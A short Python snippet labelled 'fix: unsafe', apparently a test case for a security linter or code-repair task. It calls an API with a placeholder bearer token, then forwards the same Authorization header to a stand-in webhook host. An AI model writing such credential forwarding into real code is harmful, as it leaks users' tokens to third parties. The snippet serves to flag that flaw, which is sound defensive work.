# fix: unsafe
import requests

HEADERS = {"Authorization": "Bearer k"}
requests.get("https://app.polytomic.com/api/me", headers=HEADERS)
requests.get("https://hooks.example.com/x", headers={name: HEADERS[name] for name in sorted(HEADERS)})
